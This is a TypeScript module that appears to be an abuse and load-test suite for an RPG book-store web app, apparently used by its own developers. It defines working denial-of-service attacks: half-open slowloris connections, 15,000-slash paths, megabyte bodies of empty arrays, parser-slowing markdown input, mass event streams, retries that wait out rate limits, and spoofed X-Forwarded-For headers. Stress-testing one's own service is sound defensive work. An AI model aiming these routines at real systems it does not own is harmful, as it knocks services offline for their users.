import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { Agent, type ClientRequest, request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { accountAttacks } from './abuse-accounts.ts';
import {
  ADDRESS,
  type AskedRequest,
  type Attack,
  account,
  ask,
  FROM_OUTSIDE,
  json,
  type Outsider,
  overOneConnection,
  REQUESTS_MAX,
  type Target,
  tokenOf,
} from './abuse-outsider.ts';
import { bigSystem } from './big-sheet.ts';

export const BOOKS = 3_000;
const SHEETS_MAX = 291;
const SHEET_FIELDS = 500;
const SUMMANDS = 95;
const STREAMS = 400;
const WATCHES = 50;
const HALF_OPEN = 500;
/** Per second: one connection that does not wait for answers sends more. */
const SEARCHES_PER_SECOND = 20;

const atRate =
  ({ url }: Target, perSecond: number, make: (i: number) => AskedRequest) =>
  async (over: AbortSignal): Promise<void> => {
    const agent = new Agent({ keepAlive: true });
    for (let i = 0; !over.aborted && i < REQUESTS_MAX; i += 1) {
      void ask(url, agent, make(i), over);
      await sleep(1_000 / perSecond, undefined, { signal: over }).catch(() => undefined);
    }
    agent.destroy();
  };

const hexadecimal = (i: number): string => createHash('sha512').update(String(i)).digest('hex');

/** The largest allowed universal structure: as many fields as fit, each with a long formula. */
function largestStructure(): Record<string, unknown> {
  const formula = Array(SUMMANDS).fill('c1').join(' + ');
  const fields = Array.from({ length: SHEET_FIELDS }, (_, index) => {
    const [id, label] = [`c${index}`, `Campo ${index}`];
    if (index === 0) return { kind: 'text', id, label };
    if (index === 1) return { kind: 'number', id, label };
    return { kind: 'computed', id, label, formula };
  });
  return { ...bigSystem(5), fields, conditions: [] };
}

interface MadeCharacter {
  characterId: string;
  doc: { schema: { version: number } };
}

async function fillWithSheets(outsider: Outsider): Promise<number> {
  const schema = largestStructure();
  for (let i = 0; i < SHEETS_MAX; i += 1) {
    const made = await outsider.call<MadeCharacter>('createCharacter', { system: 'universal', name: `Ficha ${i}` });
    if (made.http !== 200) return i;
    const { characterId, doc } = made.result;
    const data = { characterId, version: doc.schema.version, schema };
    let changed = await outsider.call('updateCharacterSchema', data);
    for (; changed.http === 429; changed = await outsider.call('updateCharacterSchema', data)) await sleep(1_000);
    if (changed.http !== 200) {
      process.stderr.write(`  sheet ${i}: ${changed.http} ${changed.error.message}\n`);
      return i;
    }
  }
  return SHEETS_MAX;
}

async function openStreams(target: Target, cookie: string): Promise<ClientRequest[]> {
  const opened: ClientRequest[] = [];
  for (let i = 0; i < STREAMS; i += 1) {
    const watch = Array.from({ length: WATCHES }, (_, n) => `purchase:inventada-${i}-${n}`).join();
    const headers = { ...FROM_OUTSIDE, cookie, 'sec-fetch-site': 'same-origin' };
    const stream = request(`${target.url}/live/user?watch=${watch}`, { agent: false, headers }).end();
    stream.on('error', () => undefined);
    const answered = await once(stream, 'response').catch(() => null);
    if (answered?.[0].statusCode === 200) {
      answered[0].resume();
      opened.push(stream);
    } else stream.destroy();
  }
  return opened;
}

function halfOpen({ url }: Target, i: number): Socket {
  const { hostname, port, host } = new URL(url);
  const socket = connect(Number(port), hostname);
  socket.on('error', () => undefined);
  const body = `Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n{"data":`;
  socket.write(
    `POST /functions/getStats HTTP/1.1\r\nHost: ${host}\r\nX-Forwarded-For: ${ADDRESS}\r\n${i % 2 ? body : 'X-Slow: '}`,
  );
  return socket;
}

/** `abuse-accounts.ts` has the others. */
export const attacks: Record<string, Attack> = {
  'sheets of one account': {
    means: `one account, up to ${SHEETS_MAX} universal sheets of the largest kind, listCharacters over and over`,
    prepare: async (target) => {
      const outsider = await account(target, 'fichas@example.test');
      const sheets = await fillWithSheets(outsider);
      process.stdout.write(`  (${sheets} sheets were taken)\n`);
      const token = await tokenOf(outsider);
      return overOneConnection(target, () => ({
        method: 'POST',
        path: '/functions/listCharacters',
        headers: { ...json, authorization: `Bearer ${token}` },
        body: '{"data":{}}',
      }));
    },
  },
  'a search for one long word': {
    means: `no account, ${SEARCHES_PER_SECOND} times a second listBooks with one word of 128 letters, among 3,000 books`,
    prepare: async (target) =>
      atRate(target, SEARCHES_PER_SECOND, (i) => ({
        method: 'POST',
        path: '/functions/listBooks',
        headers: json,
        body: JSON.stringify({ data: { q: hexadecimal(i) } }),
      })),
  },
  'paths of slashes': {
    means: 'no account, one connection, paths of 15,000 slashes',
    prepare: async (target) => overOneConnection(target, (i) => ({ path: `${'/'.repeat(15_000)}${i}` })),
  },
  'streams of invented things': {
    means: `one account, ${STREAMS} streams of ${WATCHES} made-up names, and changes of that account`,
    prepare: async (target) => {
      const outsider = await account(target, 'correntes@example.test');
      const token = await tokenOf(outsider);
      const cookie = outsider.cookieHeader();
      return async (over) => {
        const streams = await openStreams(target, cookie);
        const change = overOneConnection(target, (i) => ({
          method: 'POST',
          path: '/functions/updateUser',
          headers: { ...json, authorization: `Bearer ${token}` },
          body: JSON.stringify({ data: { customization: { profileMainColor: i % 9 } } }),
        }));
        await change(over);
        for (const stream of streams) stream.destroy();
      };
    },
  },
  'pages that are not kept': {
    means: 'no account, one connection, /loja with query keys that nobody reads',
    prepare: async (target) => overOneConnection(target, (i) => ({ path: `/loja?nada${i}=${i}` })),
  },
  'pages with a cookie of nobody': {
    means: 'no account, one connection, / and searches of the store with the cookie of a session that never was',
    prepare: async (target) =>
      overOneConnection(target, (i) => ({
        path: i % 2 === 0 ? '/' : `/loja?q=volume%20${i}`,
        headers: { cookie: `rpgpedia-session=${i}` },
      })),
  },
  'a description of marks': {
    means: 'one creator, one connection, saveBookDraft with 20,000 letters that take a parser ten seconds',
    prepare: async (target) => {
      const outsider = await account(
        target,
        'marcas@example.test',
        `role = 'creator', creator_id = 'casa', is_creator_owner = true`,
      );
      const fields = { title: 'Marcas', aboutText: '_a*'.repeat(6_600) };
      return async (over) => {
        for (let i = 0; !over.aborted && i < REQUESTS_MAX; i += 1)
          await outsider.call('saveBookDraft', { fields: { ...fields, shortDescription: `${i}` } }).catch(() => null);
      };
    },
  },
  'a structure saved over and over': {
    means: 'one account, one connection, updateCharacterSchema with the largest structure',
    prepare: async (target) => {
      const outsider = await account(target, 'estruturas@example.test');
      const { characterId, doc } = await outsider.must<MadeCharacter>('createCharacter', {
        system: 'universal',
        name: 'Ficha',
      });
      const schema = largestStructure();
      let { version } = doc.schema;
      return async (over) => {
        for (let i = 0; !over.aborted && i < REQUESTS_MAX; i += 1) {
          const data = { characterId, version, schema };
          const saved = await outsider
            .call<Pick<MadeCharacter, 'doc'>>('updateCharacterSchema', data)
            .catch(() => null);
          if (saved?.http === 200) version = saved.result.doc.schema.version;
        }
      };
    },
  },
  'cards of books': {
    means: 'no account, one connection, the social cards of 3,000 books, one after the other',
    prepare: async (target) =>
      overOneConnection(target, (i) => ({ path: `/cartoes/livros/livro-${(i % BOOKS) + 1}.png` })),
  },
  'sign-ins begun': {
    means: 'no account, one connection, /auth/login over and over',
    prepare: async (target) => overOneConnection(target, () => ({ path: '/auth/login?next=/perfil' })),
  },
  'a body of empty arrays': {
    means: 'no account, one connection, 1 MB of empty arrays to getStats',
    prepare: async (target) => {
      const body = `{"data":{"a":[${Array(340_000).fill('[]').join()}]}}`;
      return overOneConnection(target, () => ({ method: 'POST', path: '/functions/getStats', headers: json, body }));
    },
  },
  'half-open requests': {
    means: `no account, ${HALF_OPEN} connections that send a byte a second`,
    prepare: async (target) => async (over) => {
      const sockets = Array.from({ length: HALF_OPEN }, (_, i) => halfOpen(target, i));
      while (!over.aborted) {
        await sleep(1_000, undefined, { signal: over }).catch(() => undefined);
        sockets.forEach((socket, i) => {
          if (socket.writable) socket.write('1');
          else sockets[i] = halfOpen(target, i);
        });
      }
      for (const socket of sockets) socket.destroy();
    },
  },
  ...accountAttacks,
};
